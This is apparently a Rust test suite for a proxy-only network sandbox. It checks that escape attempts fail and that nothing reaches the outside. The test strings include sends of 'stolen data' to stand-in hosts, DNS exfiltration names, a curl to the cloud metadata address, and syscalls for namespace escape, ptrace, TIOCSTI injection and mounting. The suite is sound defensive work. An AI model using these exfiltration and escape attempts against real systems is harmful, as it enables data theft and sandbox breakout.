//! No way out but the proxy. Each attempt is a piece of Python run inside, without a single host allowed; what counts is
//! that the attempt fails where it should fail, and that nothing at all arrived outside.

use std::fs::{self, File};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
use std::path::{Path, PathBuf};

use nix::mount::{MntFlags, MsFlags, mount, umount2};

use crate::cases;
use crate::internet::internet;
use crate::internet::recorder::Recorder;
use crate::sandbox::{Output, Run, code, need};

cases![
    tcp_to_any_port,
    tcp_over_ipv6,
    tls_by_address,
    udp,
    udp_over_ipv6,
    quic_is_refused_at_once,
    icmp,
    metadata_address,
    private_address,
    dns_to_another_server,
    dns_does_not_carry_data,
    packet_socket,
    vsock,
    other_families,
    other_netlink,
    abstract_unix_socket,
    filesystem_unix_socket,
    renamed_unix_socket,
    sockets_as_standard_streams,
    directory_as_standard_input,
    connected_unix_stream_as_standard_input,
    mounts_below_the_working_directory,
    kernel_files_below_the_working_directory,
    processes_shown_by_another_mount,
    terminals_of_others,
    masked_files_shown_by_another_mount,
    moving_the_directory_of_the_audit,
    audit_file_as_standard_output,
    minus_one_is_no_user,
    nested_user_namespace,
    nsenter,
    routes_and_links,
    only_loopback_is_there,
    host_processes_are_out_of_sight,
    io_uring,
    keyctl,
    bpf,
    ptrace_of_pid_1,
    tiocsti,
    mounting,
    set_user_id_gains_nothing,
    explicit_proxy_refuses_too,
];

/// Runs Python inside; `socket`, `os`, `sys` and `call(number, …)` (a raw system call, or OSError) are at hand.
fn python(code: &str) -> Output {
    let prelude = "
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    if libc.syscall(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
socket.setdefaulttimeout(5)
";
    Run::new().python(&format!("{prelude}{code}")).run()
}

/// The attempt must end in an OSError, whatever it is.
#[track_caller]
fn refused(attempt: &str) {
    let indented: String = attempt.lines().map(|line| format!("    {line}\n")).collect();
    let output = python(&format!(
        "try:\n{indented}except OSError as error:\n    print('refused:', error)\nelse:\n    print('OPEN')\n"
    ));
    output.expect_code(0).expect_stdout("refused:");
}

#[track_caller]
fn nothing_went_to(address: &str) {
    assert_eq!(internet().sniffer.protocols_to(address), [0u8; 0], "packets left for {address}");
}

fn tcp_to_any_port() {
    for port in [22, 25, 80, 443, 853, 3128, 8080, 31_337] {
        let recorder = Recorder::tcp(&format!("11.22.44.50:{port}"), b"reached");
        let attempt = format!(
            "try:
    s = socket.create_connection(('11.22.44.50', {port}))
    s.sendall(b'stolen data\\r\\n\\r\\n')
    print(s.recv(100))
except OSError as error:
    print(error)"
        );
        let output = python(&attempt);
        assert!(!output.stdout.contains("reached"), "{output:#?}");
        recorder.assert_nothing();
    }
    nothing_went_to("11.22.44.50");
}

fn tcp_over_ipv6() {
    let recorder = Recorder::tcp("[2a11:22:44::50]:8080", b"reached");
    let output = python(
        "try:
    s = socket.create_connection(('2a11:22:44::50', 8080))
    s.sendall(b'stolen data\\r\\n\\r\\n')
    print(s.recv(100))
except OSError as error:
    print(error)",
    );
    assert!(!output.stdout.contains("reached"), "{output:#?}");
    recorder.assert_nothing();
    nothing_went_to("2a11:22:44::50");
}

fn tls_by_address() {
    need("curl", "curl");
    let output =
        Run::new().script("curl -sSk https://11.22.44.51/stolen; curl -sSk https://[2a11:22:44::51]/stolen").run();
    output.expect_stdout("11.22.44.51");
    nothing_went_to("11.22.44.51");
    nothing_went_to("2a11:22:44::51");
}

fn udp() {
    python("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('11.22.44.52', 9999))");
    nothing_went_to("11.22.44.52");
}

fn udp_over_ipv6() {
    python("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'stolen', ('2a11:22:44::52', 9999))");
    nothing_went_to("2a11:22:44::52");
}

fn quic_is_refused_at_once() {
    refused(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('11.22.44.53', 443))
s.send(b'stolen')
try:
    s.recv(100)
except TimeoutError:
    sys.exit('it took five seconds')",
    );
    nothing_went_to("11.22.44.53");
}

fn icmp() {
    refused("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)");
    refused("socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)");
    refused("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)");
    python(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('11.22.44.54', 0))",
    );
    nothing_went_to("11.22.44.54");
    // The kernel itself must not answer for every address.
    let settings = "cd /proc/sys/net; cat ipv4/icmp_echo_ignore_all; cat ipv6/icmp/echo_ignore_all || echo 1";
    assert_eq!(Run::new().script(settings).run().stdout, "1\n1\n");
}

fn metadata_address() {
    let recorder = Recorder::tcp("169.254.169.254:80", b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ntokens");
    let output = Run::new().script("curl -sS -i http://169.254.169.254/latest/meta-data/").run();
    output.expect_stdout("403").expect_stdout("x-sandbox-proxy-denial");
    recorder.assert_nothing();
    nothing_went_to("169.254.169.254");
}

fn private_address() {
    Run::new().arg("--network").arg("all").script("curl -sSik https://10.1.2.3/; curl -sSi http://10.1.2.3/").run();
    nothing_went_to("10.1.2.3");
}

fn dns_to_another_server() {
    let recorder = Recorder::udp("11.22.44.55:53");
    python(
        "query = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\4data\\4test\\0\\0\\1\\0\\1'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(query, ('11.22.44.55', 53))
print(s.recv(512))
t = socket.create_connection(('11.22.44.55', 53))
t.sendall(struct.pack('!H', len(query)) + query)
print(t.recv(512))",
    );
    recorder.assert_nothing();
    nothing_went_to("11.22.44.55");
    assert!(internet().dns.queries_containing("stolen.data").is_empty());
}

fn dns_does_not_carry_data() {
    let output = Run::new()
        .allow("dns.allowed.test")
        .python(
            "import socket
for name in ['s3cret.evil.test', 's3cret.dns.allowed.test', 's3cret.allowed.test', 's3cret.nowhere.example']:
    try:
        print(socket.getaddrinfo(name, 443))
    except OSError as error:
        print(error)",
        )
        .run();
    output.expect_code(0);
    assert!(
        internet().dns.queries_containing("s3cret").is_empty(),
        "names that are not allowed were asked for outside"
    );
}

fn packet_socket() {
    refused("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)");
    refused("socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)");
}

fn vsock() {
    refused("socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)");
    refused("socket.socket(socket.AF_VSOCK, socket.SOCK_DGRAM)");
}

fn other_families() {
    // ALG, NFC, CAIF, KCM, QIPCRTR, SMC, XDP, Bluetooth, TIPC, RDS, PPPoX, CAN
    for family in [38, 39, 37, 41, 42, 43, 44, 31, 30, 21, 24, 29] {
        refused(&format!("socket.socket({family}, socket.SOCK_RAW, 0)"));
        refused(&format!("socket.socket({family}, socket.SOCK_DGRAM, 0)"));
    }
}

fn other_netlink() {
    // USERSOCK, SOCK_DIAG, AUDIT, NETFILTER, KOBJECT_UEVENT, GENERIC
    for protocol in [2, 4, 9, 12, 15, 16] {
        refused(&format!("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, {protocol})"));
    }
}

fn abstract_unix_socket() {
    let name = format!("sandbox-proxy-it-{}", std::process::id());
    let listener = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    refused(&format!("socket.socket(socket.AF_UNIX).connect('\\0{name}')"));
    assert_nobody_came(&listener);
}

fn filesystem_unix_socket() {
    let run = Run::new();
    let path = run.outside().join("agent.sock");
    let listener = UnixListener::bind(&path).unwrap();
    let attempt = "import socket, sys
try:
    socket.socket(socket.AF_UNIX).connect(sys.argv[1])
except OSError as error:
    print('refused:', error)";
    let path = path.display().to_string();
    run.command(&["/usr/bin/python3", "-c", attempt, &path]).run().expect_code(0).expect_stdout("refused:");
    assert_nobody_came(&listener);
}

/// `/proc/net/unix` has the name that it was bound by, and that is gone.
fn renamed_unix_socket() {
    let run = Run::new();
    let (bound, path) = (run.home().join("bound.sock"), run.home().join("renamed.sock"));
    let listener = UnixListener::bind(&bound).unwrap();
    fs::rename(bound, &path).unwrap();
    let attempt = "import socket, sys
try:
    socket.socket(socket.AF_UNIX).connect(sys.argv[1])
except OSError as error:
    print('refused:', error)";
    let path = path.display().to_string();
    run.command(&["/usr/bin/python3", "-c", attempt, &path]).run().expect_code(0).expect_stdout("refused:");
    assert_nobody_came(&listener);
}

/// What the launcher says to a command started on this as standard input.
fn started_on(input: OwnedFd) -> (i32, String) {
    let output = Run::new().script("echo started >&2").to_command().stdin(input).output().unwrap();
    (code(output.status), String::from_utf8_lossy(&output.stderr).into_owned())
}

#[track_caller]
fn is_no_standard_input(input: OwnedFd) {
    let (code, said) = started_on(input);
    assert_eq!(code, 125, "{said}");
    assert!(said.contains("standard input") && said.contains("cat |") && !said.contains("started"), "{said}");
}

fn sockets_as_standard_streams() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let stream = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let output = Run::new().script("true").to_command().stdout(OwnedFd::from(stream.try_clone().unwrap())).output();
    assert_eq!(code(output.unwrap().status), 125);
    is_no_standard_input(stream.into());
    is_no_standard_input(listener.into());
    is_no_standard_input(UdpSocket::bind("127.0.0.1:0").unwrap().into());
}

fn directory_as_standard_input() {
    is_no_standard_input(File::open("/").unwrap().into());
}

fn connected_unix_stream_as_standard_input() {
    let (_outside, inside) = UnixStream::pair().unwrap();
    assert_eq!(started_on(inside.into()), (0, "started\n".to_owned()));
}

/// A bind mount in the tests' mount namespace that goes with the case.
struct Bound(PathBuf);

impl Bound {
    fn new(source: &Path, target: PathBuf) -> Self {
        fs::create_dir_all(&target).unwrap();
        let flags = MsFlags::MS_BIND | MsFlags::MS_REC;
        mount(Some(source), &target, None::<&str>, flags, None::<&str>).expect("the tests may mount");
        Self(target)
    }
}

impl Drop for Bound {
    fn drop(&mut self) {
        umount2(&self.0, MntFlags::MNT_DETACH).expect("the tests may unmount");
    }
}

/// Root's own files may be bound there; an ordinary user may write what is the user's, wherever it is shown.
fn mounts_below_the_working_directory() {
    let run = Run::new();
    let elsewhere = run.outside().join("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    let _bound = Bound::new(&elsewhere, run.work().join("bound"));
    let output = run.script("echo x > own && echo x > bound/file && echo wrote").run();
    let real_root = nix::unistd::geteuid().is_root();
    assert_eq!(elsewhere.join("file").exists(), !real_root, "{output:#?}");
    assert_eq!(output.stderr.contains("Read-only file system"), real_root, "{output:#?}");
}

fn kernel_files_below_the_working_directory() {
    let run = Run::new();
    let _bound = Bound::new(Path::new("/proc/sys"), run.work().join("sys"));
    let attempt = "import os
try:
    os.open('sys/kernel/core_pattern', os.O_WRONLY)
    print('OPEN')
except OSError as error:
    print('refused:', error)";
    run.python(attempt).run().expect_code(0).expect_stdout("refused:");
}

fn processes_shown_by_another_mount() {
    let run = Run::new();
    let _bound = Bound::new(Path::new("/proc"), run.outside().join("processes"));
    let listing = format!("ls {}/processes", run.outside().display());
    assert_eq!(run.script(&listing).run().expect_code(0).stdout, "");
}

fn terminals_of_others() {
    let other = nix::pty::openpty(None, None).unwrap();
    let name = nix::unistd::ttyname(&other.slave).unwrap();
    refused(&format!("os.open('{}', os.O_RDWR | os.O_NOCTTY)", name.display()));
    let output = Run::new().script("ls /dev/pts; for tty in /dev/tty[0-9]*; do : <$tty && echo OPEN $tty; done").run();
    assert_eq!(output.stdout, "ptmx\n", "{output:#?}");
    python("import pty; print(os.ttyname(pty.openpty()[1]))").expect_code(0).expect_stdout("/dev/pts/0\n");
}

fn masked_files_shown_by_another_mount() {
    let run = Run::new();
    fs::create_dir(run.home().join(".ssh")).unwrap();
    fs::write(run.home().join(".ssh/id"), "canary-key").unwrap();
    let mirrors = [run.outside().join("home-again"), run.outside().join("keys-again")];
    let _home = Bound::new(&run.home(), mirrors[0].clone());
    let _keys = Bound::new(&run.home().join(".ssh"), mirrors[1].clone());
    let outside = run.outside().display().to_string();
    let output =
        run.script(&format!("cat {outside}/home/.ssh/id {outside}/home-again/.ssh/id {outside}/keys-again/id")).run();
    assert_eq!(output.stdout, "", "{output:#?}");
    assert_eq!(output.stderr.matches("No such file").count(), 3, "{output:#?}");
}

fn moving_the_directory_of_the_audit() {
    let run = Run::bare().file("logs/deep/place", "");
    let audit = run.work().join("logs/deep/audit.jsonl").display().to_string();
    let script =
        "mv logs other || mv logs/deep other || mv logs/deep/audit.jsonl other || echo held; echo x > logs/deep/own";
    run.arg("--audit").arg(&audit).script(script).run().expect_code(0).expect_stdout("held");
    assert!(Path::new(&audit).is_file());
}

fn audit_file_as_standard_output() {
    let run = Run::new().script("echo forged");
    let output = run.to_command().stdout(File::create(run.audit_file()).unwrap()).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(code(output.status), 125, "{said}");
    assert!(said.contains("standard output"), "{said}");
    assert!(!fs::read_to_string(run.audit_file()).unwrap().contains("forged"));
}

/// To the system call that changes the user, -1 means "as it is".
fn minus_one_is_no_user() {
    for (variable, other) in [("SUDO_UID", "SUDO_GID"), ("SUDO_GID", "SUDO_UID")] {
        let run = Run::new().env(variable, "4294967295").env(other, "2000").script("id -u");
        let output = run.run();
        if nix::unistd::geteuid().is_root() {
            output.expect_code(125).expect_stderr(variable);
        } else {
            output.expect_code(0);
        }
    }
}

#[track_caller]
fn assert_nobody_came(listener: &UnixListener) {
    listener.set_nonblocking(true).unwrap();
    assert_eq!(listener.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody connected");
}

fn nested_user_namespace() {
    // unshare and clone of user, net and mount namespaces; clone3 with them.
    for flags in ["0x10000000", "0x40000000", "0x20000", "0x10020000"] {
        refused(&format!("call(272, {flags})"));
        refused(&format!("call(56, {flags} | 17, 0, 0, 0, 0)"));
    }
    refused("call(435, struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)");
    need("unshare", "util-linux");
    assert_ne!(Run::new().command(&["unshare", "-Urn", "true"]).run().code, 0);
}

fn nsenter() {
    need("nsenter", "util-linux");
    for target in ["1", &std::process::id().to_string()] {
        assert_ne!(Run::new().command(&["nsenter", "-t", target, "-n", "true"]).run().code, 0);
    }
    refused("call(308, os.open('/proc/self/ns/net', os.O_RDONLY), 0)");
}

fn routes_and_links() {
    need("ip", "iproute2");
    for change in [
        "ip link set lo down",
        "ip link add dummy0 type dummy",
        "ip addr add 11.22.33.77/24 dev lo",
        "ip route add 11.22.33.0/24 dev lo",
        "ip -6 route flush table local",
        "ip rule add table 7",
    ] {
        let output = Run::new().script(change).run();
        assert_ne!(output.code, 0, "{change} worked\n{output:#?}");
    }
}

fn only_loopback_is_there() {
    let output = Run::new().command(&["ip", "-o", "link"]).run();
    assert_eq!(output.stdout.lines().count(), 1, "{output:#?}");
    output.expect_stdout("lo:");
}

fn host_processes_are_out_of_sight() {
    let output = Run::new().script("ls /proc | grep -c '^[0-9]'; cat /proc/*/cmdline | tr '\\0' ' '").run();
    assert!(!output.stdout.contains("target") || output.stdout.len() < 4000, "{output:#?}");
    let processes: u32 = output.stdout.lines().next().unwrap().parse().unwrap();
    assert!(processes <= 8, "{output:#?}");
    refused(&format!("os.kill({}, 0) if not os.path.exists('/proc/{0}') else call(-1)", std::process::id()));
}

fn io_uring() {
    refused("call(425, 8, ctypes.create_string_buffer(256))");
}

fn keyctl() {
    refused("call(250, 0, -3, 0)");
    refused("call(248, b'user', b'name', b'value', 5, -3)");
}

fn bpf() {
    refused("call(321, 0, ctypes.create_string_buffer(128), 128)");
}

fn ptrace_of_pid_1() {
    refused("call(101, 16, 1, 0, 0)");
    refused("open('/proc/1/mem', 'rb')");
    refused("open('/proc/1/environ', 'rb').read()");
    refused("os.listdir('/proc/1/root')");
}

fn tiocsti() {
    // With the plain number, and with a high bit that a careless filter would not compare.
    for request in ["0x5412", "0x100005412"] {
        refused(&format!(
            "import pty
master, slave = pty.openpty()
os.setsid() if os.getpid() != os.getsid(0) and os.getpgid(0) != os.getpid() else None
call(16, slave, ctypes.c_ulong({request}), ctypes.c_char_p(b'x'))"
        ));
    }
}

fn mounting() {
    // mount, umount2, pivot_root, open_tree, move_mount, fsopen, mount_setattr, chroot
    for (number, arguments) in [
        (165, "b'none', b'/mnt', b'tmpfs', 0, 0"),
        (166, "b'/proc', 2"),
        (155, "b'/', b'/'"),
        (428, "-100, b'/', 1"),
        (429, "-1, b'/', -1, b'/', 0"),
        (430, "b'tmpfs', 0"),
        (442, "-100, b'/', 0, ctypes.create_string_buffer(32), 32"),
        (161, "b'/'"),
    ] {
        refused(&format!("call({number}, {arguments})"));
    }
}

fn set_user_id_gains_nothing() {
    let output = Run::new().script("grep -E 'NoNewPrivs|CapEff|CapBnd|CapAmb|CapInh|CapPrm' /proc/self/status").run();
    let lines: Vec<&str> = output.stdout.lines().collect();
    assert_eq!(lines.len(), 6, "{output:#?}");
    assert!(lines.iter().all(|line| line.ends_with("\t0000000000000000") || *line == "NoNewPrivs:\t1"), "{output:#?}");
}

fn explicit_proxy_refuses_too() {
    need("curl", "curl");
    for proxy in ["http://127.0.0.1:3128", "http://[::1]:3128"] {
        for url in ["https://proxied.blocked.test/", "http://proxied.blocked.test/", "https://11.22.44.56/"] {
            let output = Run::new().script(&format!("curl -sSik -x {proxy} {url}")).run();
            let shown = format!("{}{}", output.stdout, output.stderr);
            assert!(shown.contains("403"), "{proxy} {url}\n{output:#?}");
        }
    }
    nothing_went_to("11.22.44.56");
    assert_eq!(internet().dns.queries("proxied.blocked.test"), 0);
}
